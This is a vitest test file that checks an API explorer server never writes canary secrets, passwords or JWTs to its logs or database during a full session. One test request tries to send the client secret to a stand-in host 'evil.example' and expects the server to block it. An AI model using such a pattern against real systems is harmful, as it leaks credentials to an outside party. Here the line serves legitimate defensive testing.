import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { startSandbox, type Sandbox } from '@kinde-explorer/kinde-mock';
import { jsonFetch, startChildServer } from './child-server.ts';

/**
 * The log canary: a whole session against a real server process (LOG_LEVEL=trace, LOG_FILE set),
 * with unique canary values for every kind of secret, then every log line — file, stdout and
 * stderr — is searched for them and for anything shaped like a JWT. The database files are
 * searched too: secrets are sealed at rest and history is redacted.
 */
const canary = (what: string) => `canary-${what}-${randomBytes(12).toString('hex')}`;
const JWT = /eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]{8,}/;
const CLIENT_ID = 'canary_m2m_client';

describe('log canary', () => {
  it('finds no secret, password or token in the logs or the database after a whole session', async () => {
    const secrets = {
      clientSecret: canary('client-secret'),
      wrongSecret: canary('wrong-secret'),
      otherSecret: canary('other-secret'),
      importedSecret: canary('imported-secret'),
      editorPassword: canary('editor-password'),
      viewerPassword: canary('viewer-password'),
      guessedPassword: canary('guessed-password'),
    };
    let sandbox: Sandbox = await startSandbox({ port: 0, spec: null, clientId: CLIENT_ID, clientSecret: secrets.clientSecret });
    const dataDir = mkdtempSync(join(tmpdir(), 'explorer-canary-'));
    const logFile = join(dataDir, 'explorer.log');
    const server = await startChildServer(
      { LOG_LEVEL: 'trace', LOG_FILE: logFile, EXPLORER_ACCESS_PASSWORD: secrets.editorPassword, EXPLORER_VIEWER_PASSWORD: secrets.viewerPassword },
      dataDir,
    );
    const seenTokens: string[] = [];
    try {
      const api = async (path: string, init: { method?: string; json?: unknown; cookie?: string } = {}) =>
        jsonFetch(server.url, path, { method: init.method, json: init.json, headers: init.cookie ? { cookie: init.cookie } : {} });

      // Sign-in: a wrong guess, then both roles.
      expect((await api('/api/auth/sign-in', { json: { password: secrets.guessedPassword } })).status).toBe(401);
      const editorIn = await api('/api/auth/sign-in', { json: { password: secrets.editorPassword } });
      expect(editorIn.status).toBe(200);
      const cookie = editorIn.headers.get('set-cookie')!.split(';')[0]!;
      const viewerIn = await api('/api/auth/sign-in', { json: { password: secrets.viewerPassword } });
      const viewerCookie = viewerIn.headers.get('set-cookie')!.split(';')[0]!;

      const variables = [
        { key: 'business_domain', value: sandbox.url },
        { key: 'client_id', value: CLIENT_ID },
        { key: 'client_secret', value: secrets.clientSecret, secret: true },
        { key: 'other_secret', value: secrets.otherSecret, secret: true },
      ];
      const env = await api('/api/environments', { json: { name: 'Canary', variables }, cookie });
      expect(env.status).toBe(201);
      const envId: string = env.body.id;
      const send = (request: object, who = cookie) => api('/api/send', { json: { environmentId: envId, request }, cookie: who });

      // Token, then sends: a list, a body and query carrying secrets, and Kinde echoing the secret back.
      expect((await api(`/api/environments/${envId}/token`, { method: 'POST', cookie })).status).toBe(200);
      expect((await send({ method: 'GET', url: '{{business_domain}}/api/v1/users?page_size=2' })).status).toBe(200);
      const echo = await send({ method: 'GET', url: `{{business_domain}}/api/v1/applications/${CLIENT_ID}` });
      expect(echo.status).toBe(200);
      expect(JSON.stringify(echo.body)).not.toContain(secrets.clientSecret);
      await send({
        method: 'POST',
        url: '{{business_domain}}/api/v1/user?s={{other_secret}}',
        headers: [{ key: 'x-note', value: '{{other_secret}}' }],
        body: { mode: 'json', json: '{"profile":{"given_name":"{{other_secret}}"}}' },
      });
      await send({ method: 'GET', url: '{{business_domain}}/api/v1/users' }, viewerCookie);

      // A token the user pasted themselves (auth: none), expired: Kinde answers 401.
      const pasted = await sandbox.issueToken({ expiresInSeconds: -60 });
      seenTokens.push(pasted);
      const own = await send({ method: 'GET', url: '{{business_domain}}/api/v1/users', auth: 'none', headers: [{ key: 'Authorization', value: `Bearer ${pasted}` }] });
      expect(own.body.status).toBe(401);

      // The 401 retry: a new sandbox on the same port has new keys, so the cached token is refused once.
      const port = sandbox.port;
      await sandbox.close();
      sandbox = await startSandbox({ port, spec: null, clientId: CLIENT_ID, clientSecret: secrets.clientSecret });
      const retried = await send({ method: 'GET', url: '{{business_domain}}/api/v1/users?page_size=1' });
      expect(retried.body.status).toBe(200);
      expect(sandbox.stats().tokenRequests).toBe(1);

      // Error paths: target refused with a secret in the URL, unresolved variable, a wrong secret.
      expect((await send({ method: 'GET', url: 'https://evil.example/?leak={{client_secret}}' })).body.error.code).toBe('target_not_allowed');
      expect((await send({ method: 'GET', url: '{{business_domain}}/api/v1/{{nope}}?s={{client_secret}}' })).body.error.code).toBe('unresolved_variable');
      const patched = variables.map((v) => (v.key === 'client_secret' ? { ...v, value: secrets.wrongSecret } : v));
      expect((await api(`/api/environments/${envId}`, { method: 'PATCH', json: { variables: patched }, cookie })).status).toBe(200);
      const wrong = await send({ method: 'GET', url: '{{business_domain}}/api/v1/users' });
      expect(wrong.body.error.code).toBe('token_exchange_failed');

      // Collections, history, snippets, exports and an import carrying a secret.
      const col = await api(`/api/environments/${envId}/collections`, { json: { name: 'C' }, cookie });
      await api(`/api/collections/${col.body.id}/requests`, {
        json: { name: 'R', request: { method: 'GET', url: '{{business_domain}}/api/v1/users', headers: [{ key: 'x-s', value: '{{client_secret}}' }] } },
        cookie,
      });
      await api(`/api/collections/${col.body.id}/export`, { cookie });
      await api(`/api/environments/${envId}/export`, { cookie });
      await api(`/api/environments/${envId}/history`, { cookie });
      await api('/api/snippets', { json: { environmentId: envId, target: 'shell/curl', request: { method: 'GET', url: '{{business_domain}}/api/v1/users?s={{client_secret}}' } }, cookie });
      await api('/api/import', {
        json: {
          content: JSON.stringify({
            name: 'Imported',
            values: [
              { key: 'business_domain', value: 'https://imported.kinde.com', enabled: true },
              { key: 'client_secret', value: secrets.importedSecret, type: 'secret', enabled: true },
            ],
            _postman_variable_scope: 'environment',
          }),
        },
        cookie,
      });
      await api('/api/auth/sign-out', { method: 'POST', cookie });
    } finally {
      await sandbox.close();
      await server.stop();
    }

    const fileLog = readFileSync(logFile, 'utf8');
    const everything = `${fileLog}\n${server.output()}`;
    const lines = everything.split('\n').filter((l) => l.trim());
    console.log(`log-canary: ${lines.length} lines searched (LOG_FILE ${fileLog.split('\n').length - 1}, stdout/stderr ${server.output().split('\n').length - 1})`);
    // The run really was logged: structured JSON lines, one per request at least.
    const fileLines = fileLog.split('\n').filter((l) => l.trim());
    expect(fileLines.every((l) => typeof JSON.parse(l).level === 'number')).toBe(true);
    expect(fileLines.filter((l) => JSON.parse(l).msg === 'request').length).toBeGreaterThan(20);

    for (const [name, value] of Object.entries(secrets)) {
      const hits = lines.filter((l) => l.includes(value));
      expect(hits, `${name} in the logs`).toEqual([]);
    }
    for (const token of seenTokens) expect(everything).not.toContain(token);
    expect(lines.filter((l) => JWT.test(l)), 'a JWT in the logs').toEqual([]);

    // At rest: the database and its WAL hold no secret in clear and no token.
    const db = readdirSync(server.dataDir)
      .filter((f) => f.startsWith('explorer.db'))
      .map((f) => readFileSync(join(server.dataDir, f)).toString('latin1'))
      .join('');
    expect(db.length).toBeGreaterThan(0);
    for (const [name, value] of Object.entries(secrets)) expect(db.includes(value), `${name} in the database`).toBe(false);
    expect(JWT.test(db), 'a JWT in the database').toBe(false);
    rmSync(dataDir, { recursive: true, force: true });
  }, 120_000);
});
